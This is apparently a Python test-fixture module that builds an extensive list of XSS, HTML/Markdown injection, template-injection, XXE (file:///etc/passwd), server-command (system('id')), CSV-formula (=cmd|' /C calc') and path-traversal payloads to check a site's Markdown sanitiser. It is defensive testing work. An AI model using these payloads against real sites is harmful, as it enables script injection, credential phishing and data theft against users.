"""Texts that would run a script, load something or hold a page up where they are not made harmless: what people try on
sites that render Markdown, in every place where a description, a note or a name may have it."""

from __future__ import annotations

from collections.abc import Iterable
from itertools import product
from typing import Final

from despaira_site.testing.exhaustive import is_exhaustive

#: Addresses that do something when they are followed or loaded, and those that only look as if they didn't.
ADDRESSES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\x00script:alert(1)", "\x01javascript:alert(1)", "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)", "\u202ejavascript:alert(1)", "ｊavascript:alert(1)", "javascrıpt:alert(1)",
    "javaſcript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)", "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "&amp;#106;avascript:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "javascript://example.org/%0Aalert(1)", "javascript:%61lert%281%29", "vbscript:msgbox(1)", "livescript:alert(1)",
    "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:,alert(1)", "file:///etc/passwd", "blob:https://example.org/1", "filesystem:https://example.org/1",
    "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/",
    "intent://example.org#Intent;scheme=javascript;end", "ftp://example.org/x", "//example.org/x.js",
    "\\\\example.org\\x", "/\\example.org/x", 'https://example.org/" onmouseover="alert(1)',
    "https://example.org/' onmouseover='alert(1)", "https://example.org/`onmouseover=alert(1)",
    'https://example.org/"autofocus onfocus=alert(1) x="', "https://example.org/&quot; onmouseover=&quot;alert(1)",
    "https://example.org/><script>alert(1)</script>", "https:javascript:alert(1)", "x:expression(alert(1))",
)  # fmt: skip
#: Where an address may stand.
PLACES: Final = (
    "[a]({})", "[a](<{}>)", "<{}>", "![a]({})", "[a]: {}\n\n[a] ![a]", "[a]({} \"title\" onmouseover=\"alert(1)\")",
    "[![a]({0})]({0})", "[[{}]]", "[[Flash Step|{}]]", "[[Flash Step]]({})", "| a |\n|---|\n| [a]({}) |",
)  # fmt: skip
#: HTML, whole and broken, that a browser would act upon.
TAGS: Final = (
    "<script>alert(1)</script>", "<SCRIPT SRC=https://example.org/x.js></SCRIPT>", "<script\n>alert(1)</script\n>",
    "<script/src=https://example.org/x.js>", "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)<!--", "<script x=\">\">alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<IMG SRC=`javascript:alert(1)`>",
    "<img src=x:x onerror=&#97;lert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<svg/onload=alert(1)//",
    "<svg><style>{font-family:'<img src=x onerror=alert(1)>'}</style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>", "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=https://example.org/x.css>", "<style>@import 'https://example.org/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>a</p>", "<div style=\"width:expression(alert(1))\">",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<base href=https://example.org/>",
    "<form action=https://example.org/><input name=password type=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>a</button>", "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<table background=https://example.org/seen.png>", "<a href=javascript:alert(1)>a</a>",
    "<a href=\" &#14; javascript:alert(1)\">a</a>", "<a onclick=alert(1)>a</a>",
    "<a data-face=https://example.org/seen.png href=/>a</a>", "<a id=editor name=csrfmiddlewaretoken>a</a>",
    "<div contenteditable onblur=alert(1)>a</div>", "<b/onclick=alert(1)>a", "<b onclick\n=\nalert(1)>a",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>", "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<plaintext>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<?php system('id') ?>", "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
    "<%= system('id') %>", "{{ 7|add:7 }} {% debug %} {{ request.user.password }}",
    "${alert(1)} #{alert(1)} {{constructor.constructor('alert(1)')()}}", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>",
    "\"autofocus/onfocus=\"alert(1)", "=\"\"><svg onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)", "\\<script\\>alert(1)\\</script\\>", "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>", "<script\u200b>alert(1)</script>", "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>", "<\x0bsvg onload=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b[31m\x07<b onclick=alert(1)>", "\u202e<tpircs>",
)  # fmt: skip
#: Markdown whose parts get into one another.
MARKS: Final = (
    "[a](javascript:alert(1)", "[a](javascript:window.onerror=alert;throw%20document.cookie)",
    "[a][b]\n\n[b]: javascript:alert(1) 'x'", "[a]\n\n[a]: <javascript:alert(1)>",
    "[a][]\n\n[a]:\ndata:text/html,<script>alert(1)</script>\n\"title\"",
    "[__proto__]: javascript:alert(1)\n\n[__proto__]", "[constructor]", "[a](\"onmouseover=\"alert(1)\")",
    "[a](<\"onmouseover=alert(1)>)", "[a](https://example.org 'a\" onmouseover=\"alert(1)')",
    "[<img src=x onerror=alert(1)>](https://example.org)", "[a `](javascript:alert(1))` b](https://example.org)",
    "[![a](javascript:alert(1)](https://example.org)", "![a][b]\n\n[b]: https://example.org/seen.png",
    "![<svg onload=alert(1)>](x)", "![a](x\"onerror=\"alert(1))", "<https://example.org/\"onmouseover=\"alert(1)>",
    "<javascript&colon;alert(1)>", "<mailto:a@example.org?subject=%0d%0abcc:b@example.org>",
    "<a@\"onmouseover=alert(1)\".org>", "```\"><script>alert(1)</script>\na\n```", "```x onmouseover=alert(1)\na\n```",
    "`<script>alert(1)</script>`", "``` ` <svg onload=alert(1)> ` ```", "    <script>alert(1)</script>",
    "# <script>alert(1)</script>", "<script>alert(1)</script>\n===", "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n  - <svg onload=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "|a|\n|:--\" onmouseover=\"alert(1)|\n|b|", "~~<s onclick=alert(1)>a~~", "*a <img src=\"*\" onerror=alert(1)>",
    "a\\\n<script>alert(1)</script>", "1. a\n\n   <script>alert(1)</script>",
    "<p>\n\n**a**\n\n<script>alert(1)</script>", "<!--\n\n[a](javascript:alert(1))\n\n-->",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#0;&#x0;&#55296;&#xD800;&#x110000;<b>",
    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))", "[a](java\\script:alert(1))",
    "[[Flash Step]](javascript:alert(1))", "[[[[Flash Step]]]]", "[[Flash Step|[[Flash Step]]]]",
    "[[Flash Step|<img src=x onerror=alert(1)>]]", "[[Flash Step|\" onmouseover=\"alert(1)]]",
    "[[Flash Step|**a** `b` [c](javascript:alert(1))]]", "[[Flash Step\" onmouseover=\"alert(1)]]",
    "[[flash-step/../../admin]]", "[[<script>alert(1)</script>]]", "[[javascript:alert(1)]]",
    "[[Flash Step|]] [[|Flash Step]] [[]] [[ ]] [[|]] [[||]]", "[[Flash\nStep]]", "[[Flash Step\x00]]",
    "[[Flash Step|\u202egnorw]]", "[[__class__]] [[constructor]] [[None]] [[0]] [[-1]]",
    "[a [[Flash Step]] b](javascript:alert(1))", "![[Flash Step]]",
    "\\[[Flash Step]] [\\[Flash Step]] [[Flash Step\\]]",
    "[[Flash Step]]: javascript:alert(1)\n\n[[Flash Step]]", "[Flash Step]: javascript:alert(1)\n\n[[Flash Step]]",
    "=HYPERLINK(\"https://example.org/\",\"a\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1",
    "\t=1+1", "\r=1+1", "＝1+1",
)  # fmt: skip
#: What is repeated until a text is as long as it may be.
REPEATED: Final = (
    "[", "[[", "![", "[a](", "[[a|", "[[Flash Step]]", "[[Flash Step|a]]", "[[a]]", "]]", "](", "[[[[Flash Step]]]] ",
    "<", "<a ", "<script>", "<!--", "<![CDATA[", "<?", "</", "&", "&#", "&lt;", "*", "**a", "*a_ ", "_", "`", "`a ``",
    "~", "~~a", "> ", ">>", "- ", "* ", "1. ", "#", "|", "|a|\n|-|\n", "\\", "\\[", "(", ")", "\"", "'", "\n", "\t",
    "a\n===\n", "[a]: <b>\n", "[a]\n", "\u202e", "\u0301", "\U0001f600", "﷽", "\u200d", "ﬁ", "\ufffd", "\x00",
    "  \n", "[a](<b>) ", "<http://a> ", "![[", "[![", "[a [[Flash Step]] ", "{{", "{%", "[[\n", "||", "|[[a|b]]",
    "[a", "[[]", "[](", "[a](b", "[a](<b", "[a][b]", "![a][b]", "[a]: b\n", "\n[a]: <", "*a ", "**a ", "_a ",
    "__a", "*_*_", "**_", "*a**b ", "a**b", "~~a ", "`a", "``a ", "```\n", "~~~\n", "<http://a", "<a href=\"", ">",
    ">\n", "&amp;", "!", "-\n", "* * ", "# a\n", "|-", "| a | b |\n", "    a\n", "===\n", "a\n=\n", "- a\n - b\n",
    "a  \n",
)  # fmt: skip

#: Every text that is short, once.
PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            *(place.format(address) for place, address in product(PLACES, ADDRESSES)), *ADDRESSES, *TAGS, *MARKS,
            *(f"[[Flash Step|{tag}]]" for tag in TAGS),
        ]
    )
)  # fmt: skip


def some_payloads() -> tuple[str, ...]:
    """Return all of them in an exhaustive run, every fifth in any other."""
    return PAYLOADS if is_exhaustive() else PAYLOADS[::5]


def long_payloads(letters: int) -> list[str]:
    """Texts of so many letters that are the same again and again."""
    return [(each * letters)[:letters] for each in REPEATED]


def packed(texts: Iterable[str], letters: int) -> list[str]:
    """The texts, as many together as so many letters hold: what is left open in one is not closed by the next, so that
    each should be tried by itself as well."""
    packs = [""]
    for text in texts:
        joined = f"{packs[-1]}\n\n{text}".strip()
        if len(joined) <= letters:
            packs[-1] = joined
        else:
            packs.append(text[:letters])
    return packs
